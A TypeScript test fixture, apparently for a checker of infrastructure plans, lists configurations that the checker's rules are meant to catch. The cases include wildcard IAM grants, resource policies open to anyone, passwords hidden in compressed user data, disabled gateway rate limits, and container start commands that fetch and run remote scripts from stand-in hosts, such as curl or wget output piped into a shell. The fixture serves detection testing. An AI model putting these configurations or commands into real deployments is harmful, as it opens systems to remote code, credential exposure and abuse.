import { gzipSync } from "node:zlib";
import type { Properties, Wire } from "../../../scripts/plan/wire.ts";
import type { Addition } from "../additions.ts";
import { added, aws, changed, object, type Way } from "./way.ts";

const deployment = "kubernetes:apps/v1:Deployment";
const pod = "spec.template.spec";
const image = `public.ecr.aws/aws-cli/aws-cli@sha256:${"a".repeat(64)}`;
const workload = (container: Properties, spec: Properties = {}): Addition =>
  object("apps/v1:Deployment", {
    template: {
      metadata: { labels: { app: "way" } },
      spec: { ...spec, containers: [{ name: "app", image, ...container }] },
    },
  });
const starts = (...command: string[]) => workload({ command });
const document = (Action: string, Resource: string) =>
  JSON.stringify({ Version: "2012-10-17", Statement: [{ Effect: "Allow", Action, Resource }] });
const allows = (action: string, resource: string) =>
  aws("iam/rolePolicy:RolePolicy", { role: "way", policy: document(action, resource) });
const anyone = JSON.stringify({
  Version: "2012-10-17",
  Statement: [{ Effect: "Allow", Principal: "*", Action: "service:Use", Resource: "arn:aws:x:::y" }],
});
const password = "Tr0ub4dor-and-3-more";
const packed = (text: string) => gzipSync(text).toString("base64");
const served = { image: "acme/tool:1", command: ["vllm", "serve"] };

/** A volume of the engine's pods, mounted at a folder of the engine. */
const mounted = (folder: string, volume: Properties) => (spec: Wire) => {
  const { volumes, containers } = spec as { volumes: Properties[]; containers: Properties[] };
  const [engine, ...others] = containers;
  const volumeMounts = [
    ...((engine?.volumeMounts as Wire[] | undefined) ?? []),
    { name: "way", mountPath: folder },
  ];
  return {
    ...(spec as Properties),
    volumes: [...volumes, { name: "way", ...volume }],
    containers: [{ ...engine, volumeMounts }, ...others],
  } as Wire;
};
const withVariable = (name: string, value: string) => (env: Wire) =>
  (env as Properties[]).map((one) => (one.name === name ? { name, value } : one)) as Wire;
/** A text of the gateway's configuration replaced, in that ConfigMap alone. */
const gatewayText = (from: string, to: string) => (data: Wire) => {
  const files = data as Properties;
  const text = files["config.yaml"];
  return typeof text === "string" ? { ...files, "config.yaml": text.replace(from, to) } : files;
};
const configured = (section: string, setting: string) =>
  ["kubernetes:core/v1:ConfigMap", "data", gatewayText(`${section}:`, `${section}:\n  ${setting}`)] as const;

/** What a person who reviews a change reads past: code, settings and grants that stand where nobody looks for them. */
export const unreviewed: readonly Way[] = [
  ...added("resources of any account, or of the caller's choice", ["iam-no-wildcards"], {
    "a role by the beginning of its name": allows("sts:AssumeRole", "arn:aws:iam::*:role/Admin*"),
    "a queue by its name": allows("sqs:SendMessage", "arn:aws:sqs:us-east-1:*:jobs"),
    "an account of question marks": allows("sts:AssumeRole", "arn:aws:iam::????????????:role/x"),
    "a bucket by the caller's tag": allows("s3:GetObject", `arn:aws:s3:::\${aws:PrincipalTag/team}/*`),
    "a bucket by the caller's tag and a wildcard": allows(
      "s3:GetObject",
      `arn:aws:s3:::\${aws:PrincipalTag/team}*/*`,
    ),
    "a tag with a default of everything": allows(
      "s3:GetObject",
      `arn:aws:s3:::\${aws:PrincipalTag/team, '*'}/*`,
    ),
  }),
  ...added("policies of further services to anyone", ["resource-policy-not-public"], {
    "a cluster of brokers": aws("msk/clusterPolicy:ClusterPolicy", { clusterArn: "x", policy: anyone }),
    "log groups": aws("cloudwatch/logResourcePolicy:LogResourcePolicy", {
      policyName: "x",
      policyDocument: anyone,
    }),
    "a table bucket": aws("s3tables/tableBucketPolicy:TableBucketPolicy", {
      tableBucketArn: "x",
      resourcePolicy: anyone,
    }),
    "a sender of mail": aws("ses/identityPolicy:IdentityPolicy", { identity: "x", policy: anyone }),
    "a share of Prometheus": aws("amp/resourcePolicy:ResourcePolicy", {
      workspaceId: "x",
      policyDocument: anyone,
    }),
    "a template of repositories": aws("ecr/repositoryCreationTemplate:RepositoryCreationTemplate", {
      prefix: "x",
      appliedFors: ["PULL_THROUGH_CACHE"],
      repositoryPolicy: anyone,
    }),
  }),
  ...added("others' machines, certificates and readers", ["service-known"], {
    "roles for foreign certificates": aws("rolesanywhere/trustAnchor:TrustAnchor", { name: "x" }),
    "machines that register themselves": aws("ssm/activation:Activation", { iamRole: "x" }),
    "a public registry": aws("ecrpublic/repository:Repository", { repositoryName: "x" }),
    "a public registry's policy": aws("ecrpublic/repositoryPolicy:RepositoryPolicy", {
      repositoryName: "x",
      policy: anyone,
    }),
    "a share with other accounts": aws("ram/resourceShare:ResourceShare", { allowExternalPrincipals: true }),
  }),
  ...added("targets beside those of a binding", ["targets-by-binding"], {
    "an address": aws("lb/targetGroupAttachment:TargetGroupAttachment", {
      targetGroupArn:
        "arn:aws:elasticloadbalancing:us-east-1:111122223333:targetgroup/chat-blue/0123456789abcdef",
      targetId: "10.20.1.7",
    }),
    "an instance": aws("lb/targetGroupAttachment:TargetGroupAttachment", {
      targetGroupArn: "x",
      targetId: "i-0123456789abcdef0",
    }),
    "a port of another": aws("lb/targetGroupAttachment:TargetGroupAttachment", {
      targetGroupArn: "x",
      targetId: "10.20.1.7",
      port: 9000,
    }),
    "a function": aws("lb/targetGroupAttachment:TargetGroupAttachment", {
      targetGroupArn: "x",
      targetId: "arn:aws:lambda:us-east-1:111122223333:function:other",
    }),
    "the older name of the type": aws("alb/targetGroupAttachment:TargetGroupAttachment", {
      targetGroupArn: "x",
      targetId: "10.20.1.7",
    }),
  }),
  ...added("batch jobs with containers further inside", ["compute-runs-no-model"], {
    "a pod of the cluster": aws("batch/jobDefinition:JobDefinition", {
      type: "container",
      eksProperties: { podProperties: { containers: [served] } },
    }),
    "a pod's arguments": aws("batch/jobDefinition:JobDefinition", {
      type: "container",
      eksProperties: { podProperties: { containers: [{ image: "acme/tool:1", args: ["vllm", "serve"] }] } },
    }),
    "a pod's GPU": aws("batch/jobDefinition:JobDefinition", {
      type: "container",
      eksProperties: {
        podProperties: {
          containers: [{ image: "acme/tool:1", resources: { limits: { "nvidia.com/gpu": "1" } } }],
        },
      },
    }),
    "several nodes": aws("batch/jobDefinition:JobDefinition", {
      type: "multinode",
      nodeProperties: JSON.stringify({ nodeRangeProperties: [{ targetNodes: "0:", container: served }] }),
    }),
    "several containers": aws("batch/jobDefinition:JobDefinition", {
      type: "container",
      ecsProperties: JSON.stringify({ taskProperties: [{ containers: [served] }] }),
    }),
  }),
  ...added("secrets in packed and unusual places", ["no-plaintext-secret"], {
    "compressed user data": aws("ec2/instance:Instance", {
      instanceType: "t4g.micro",
      userDataBase64: packed(`export DB_PASSWORD=${password}`),
    }),
    "a compressed file of a ConfigMap": object(
      "core/v1:ConfigMap",
      {},
      { binaryData: { "app.env.gz": packed(`DB_PASSWORD=${password}`) } },
    ),
    "a file of credentials": object(
      "core/v1:ConfigMap",
      {},
      { data: { ".netrc": `machine example.com login way password ${password}` } },
    ),
    "properties of brokers": aws("msk/configuration:Configuration", {
      serverProperties: `sasl.password=${password}`,
    }),
    "a chart repository's password": {
      type: "kubernetes:helm.sh/v3:Release",
      name: "way",
      inputs: { chart: "way", repositoryOpts: { repo: "https://charts.example.com", password } },
    },
  }),
  ...added("programs that are fetched at start", ["no-remote-code"], {
    "an installer": starts("sh", "-c", "pip install flask && python app.py"),
    "an installer as a module": starts("python3", "-m", "pip", "install", "flask"),
    "a runner of packages": starts("npx", "-y", "tool"),
    "another runner of packages": starts("uvx", "tool@latest"),
    "a script through a pipe": starts("sh", "-c", "curl -sSL https://x.example/install.sh | bash -s -- -y"),
    "a script in place of an argument": starts("bash", "-c", "bash <(curl -s https://x.example/run)"),
    "a repository": starts("sh", "-c", "git clone https://github.com/x/y && python y/main.py"),
    "a script in base64": starts("sh", "-c", "echo dmxsbSBzZXJ2ZQ== | base64 -d | sh"),
    "packages of the system": starts("sh", "-c", "apt-get update && apt-get -y install jq && ./run"),
    "a hook": workload({ lifecycle: { postStart: { exec: { command: ["pip", "install", "x"] } } } }),
    "a probe": workload({ livenessProbe: { exec: { command: ["sh", "-c", "wget -qO- x.example | sh"] } } }),
  }),
  ...changed("code over an engine's own", ["engine-surface-minimal"], {
    "a network disk": [deployment, pod, mounted("/models", { nfs: { server: "x", path: "/" } })],
    "a bucket as a disk": [deployment, pod, mounted("/models", { csi: { driver: "s3.csi.aws.com" } })],
    "a git repository": [deployment, pod, mounted("/models", { gitRepo: { repository: "https://x" } })],
    "a disk from a snapshot": [
      deployment,
      pod,
      mounted("/models", { ephemeral: { volumeClaimTemplate: { spec: { dataSourceRef: { name: "x" } } } } }),
    ],
    "a folder over its packages": [
      deployment,
      pod,
      mounted("/usr/local/lib/python3.12/dist-packages/vllm", { emptyDir: {} }),
    ],
    "a folder over its programs": [deployment, pod, mounted("/opt/venv/bin", { emptyDir: {} })],
    "a folder over the loader's settings": [deployment, pod, mounted("//etc", { emptyDir: {} })],
    "a hook": [
      deployment,
      `${pod}.containers.0.lifecycle.postStart`,
      { exec: { command: ["python3", "-c", "import x"] } },
    ],
  }),
  ...added("pods on GPU nodes that request no GPU", ["gpu-pod-tolerates-taint"], {
    "by the taint's key": workload(
      {},
      { tolerations: [{ key: "nvidia.com/gpu", operator: "Exists", effect: "NoSchedule" }] },
    ),
    "by any taint": workload({}, { tolerations: [{ operator: "Exists" }] }),
    "by any taint of the effect": workload(
      {},
      { tolerations: [{ operator: "Exists", effect: "NoSchedule" }] },
    ),
    "by a node's name": workload({}, { nodeName: "ip-10-0-0-1.ec2.internal" }),
    "in a Job": object("batch/v1:Job", {
      template: {
        spec: { tolerations: [{ operator: "Exists" }], containers: [{ name: "app", image }] },
      },
    }),
  }),
  ...added(
    "engines by further programs",
    ["engine-command-readable"],
    Object.fromEntries(
      [
        ["mistralrs", "serve", "-m", "x"],
        ["ramalama", "serve", "x"],
        ["nexa", "serve"],
        ["tensorflow_model_server"],
        ["python", "-m", "mii.entrypoints.openai_api_server"],
        ["faster-whisper-server"],
        ["exo", "--run", "x"],
        ["accelerate", "launch", "serve.py"],
        ["ray", "start", "--head"],
        ["unsloth", "serve"],
      ].map((command) => [command.join(" "), starts(...command)]),
    ),
  ),
  ...changed("settings of the gateway that no rule knows", ["gateway-config-readable"], {
    "answers that no model gives": configured("    litellm_params", "    mock_response: hello"),
    "unverified certificates": configured("litellm_settings", "ssl_verify: false"),
    "routes for administrators": configured("general_settings", "ui_access_mode: all"),
    "allowed routes": configured("general_settings", "allowed_routes: [/key/generate]"),
    "a fallback of every model": configured("router_settings", "default_fallbacks: [gpt-4o]"),
    "deployments by a client's tags": configured("router_settings", "enable_tag_filtering: true"),
    "keys for pass-through": configured("    litellm_params", "    use_in_pass_through: true"),
  }),
  ...changed("limits of the gateway that limit nothing", ["gateway-limits-enforced"], {
    "hooks taken out": [
      "kubernetes:core/v1:ConfigMap",
      "data",
      gatewayText("  callbacks:\n    - extension.hooks\n", ""),
    ],
    "other hooks": ["kubernetes:core/v1:ConfigMap", "data", gatewayText("extension.hooks", "prometheus")],
    "a huge number of requests": [
      "kubernetes:core/v1:ConfigMap",
      "data",
      gatewayText("rpm: 300", "rpm: 99999999999"),
    ],
    "a huge number of tokens": [
      "kubernetes:core/v1:ConfigMap",
      "data",
      gatewayText("tpm: 400000", "tpm: 99999999999"),
    ],
    "a huge number at once": [
      "kubernetes:core/v1:ConfigMap",
      "data",
      gatewayText("max_parallel_requests: 235", "max_parallel_requests: 10000000"),
    ],
  }),
  ...changed("weights that are staged from elsewhere", ["model-source-allowed"], {
    "another hub": [
      "kubernetes:batch/v1:Job",
      `${pod}.containers.0.env`,
      withVariable("HUB", "https://hub.example"),
    ],
    "a hub without TLS": [
      "kubernetes:batch/v1:Job",
      `${pod}.containers.0.env`,
      withVariable("HUB", "http://huggingface.co"),
    ],
    "a branch": ["kubernetes:batch/v1:Job", `${pod}.containers.0.env`, withVariable("REVISION", "main")],
    "another publisher": [
      "kubernetes:batch/v1:Job",
      `${pod}.containers.0.env`,
      withVariable("REPOSITORY", "acme/model"),
    ],
    "a publisher whose name begins alike": [
      "kubernetes:batch/v1:Job",
      `${pod}.containers.0.env`,
      withVariable("REPOSITORY", "Qwen-mirror/Qwen3-8B"),
    ],
  }),
  ...added(
    "a web ACL's or a Service's parts from elsewhere",
    ["waf-rate-rule-enforces", "workload-kind-known"],
    {
      "a group of rules": {
        ...aws("wafv2/webAclRuleGroupAssociation:WebAclRuleGroupAssociation", {
          priority: 0,
          ruleName: "way",
          ruleGroupReference: { arn: "x" },
        }),
        behind: { webAclArn: ["WebAcl edge"] },
      },
      "a group that can't be read": {
        ...aws("wafv2/webAclRuleGroupAssociation:WebAclRuleGroupAssociation", {
          priority: 0,
          ruleName: "way",
        }),
        behind: { webAclArn: ["WebAcl edge"] },
      },
      "a rule that allows": {
        ...aws("wafv2/webAclRule:WebAclRule", { priority: 0, name: "way", action: { allow: {} } }),
        behind: { webAclArn: ["WebAcl edge"] },
      },
      addresses: object(
        "discovery.k8s.io/v1:EndpointSlice",
        {},
        { addressType: "IPv4", endpoints: [{ addresses: ["203.0.113.9"] }] },
      ),
      "addresses of the older kind": object(
        "core/v1:Endpoints",
        {},
        { subsets: [{ addresses: [{ ip: "203.0.113.9" }] }] },
      ),
    },
  ),
];
